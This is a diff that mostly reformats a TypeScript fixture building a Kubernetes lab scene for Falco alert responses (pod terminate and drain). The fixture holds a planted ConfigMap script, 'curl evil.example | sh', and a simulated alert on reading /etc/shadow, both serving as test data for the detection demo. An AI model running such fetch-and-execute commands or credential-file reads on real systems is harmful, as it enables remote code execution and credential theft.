@@ -19,13 +19,20 @@ export function tourRules(): string {
 
 /** An alert per actionner, each about a pod of its own, and what each does there. */
 export async function tourScene(): Promise<Scene> {
-  const recorded = JSON.parse(await readFile(new URL("../alerts/terminal-shell.json", import.meta.url), "utf8")) as Alert;
+  const recorded = JSON.parse(
+    await readFile(new URL("../alerts/terminal-shell.json", import.meta.url), "utf8"),
+  ) as Alert;
   return {
     pods: [{ namespace: NAMESPACE, name: "bystander" }, NEIGHBOUR, ...ACTIONNERS.map(podOf)],
     objects: [
       { apiVersion: "v1", kind: "Node", metadata: { name: "node-1" } },
       { apiVersion: "v1", kind: "Node", metadata: { name: DRAINED } },
-      { apiVersion: "v1", kind: "ConfigMap", metadata: { namespace: NAMESPACE, name: "planted" }, data: { script: "curl evil.example | sh" } },
+      {
+        apiVersion: "v1",
+        kind: "ConfigMap",
+        metadata: { namespace: NAMESPACE, name: "planted" },
+        data: { script: "curl evil.example | sh" },
+      },
     ],
     steps: ACTIONNERS.map((actionner) => stepOf(actionner, recorded)),
   };
@@ -40,8 +47,21 @@ interface Alert {
 function stepOf(actionner: Actionner, { output_fields: fields, ...recorded }: Alert): Step {
   const { name } = actionner;
   const pod = podOf(actionner);
-  const audit = { "ka.target.resource": "configmaps", "ka.target.namespace": NAMESPACE, "ka.target.name": "planted", "k8s.ns.name": null, "k8s.pod.name": null };
-  const container = { ...fields, "container.id": pod.containerId, "k8s.ns.name": NAMESPACE, "k8s.pod.name": pod.name, "k8s.pod.uid": pod.uid, "fd.name": "/etc/shadow" };
+  const audit = {
+    "ka.target.resource": "configmaps",
+    "ka.target.namespace": NAMESPACE,
+    "ka.target.name": "planted",
+    "k8s.ns.name": null,
+    "k8s.pod.name": null,
+  };
+  const container = {
+    ...fields,
+    "container.id": pod.containerId,
+    "k8s.ns.name": NAMESPACE,
+    "k8s.pod.name": pod.name,
+    "k8s.pod.uid": pod.uid,
+    "fd.name": "/etc/shadow",
+  };
   const alert = {
     ...recorded,
     rule: falcoRule(actionner),
@@ -50,7 +70,13 @@ function stepOf(actionner: Actionner, { output_fields: fields, ...recorded }: Al
   };
   const going = { "kubernetes:terminate": [pod], "kubernetes:drain": [pod, NEIGHBOUR] }[name] ?? [];
   const goes = going.map((one) => `${one.namespace}/${one.name}`);
-  return { title: name, alert: JSON.stringify(alert), pods: [], goes, outcome: name === "kubernetes:terminate" ? "terminated" : "done" };
+  return {
+    title: name,
+    alert: JSON.stringify(alert),
+    pods: [],
+    goes,
+    outcome: name === "kubernetes:terminate" ? "terminated" : "done",
+  };
 }
 
 function podOf({ name }: Actionner): LabPod & Required<Pick<LabPod, "uid" | "containerId">> {
@@ -70,4 +96,3 @@ function podOf({ name }: Actionner): LabPod & Required<Pick<LabPod, "uid" | "con
 function falcoRule({ name }: Actionner): string {
   return `Show ${name}`;
 }
-
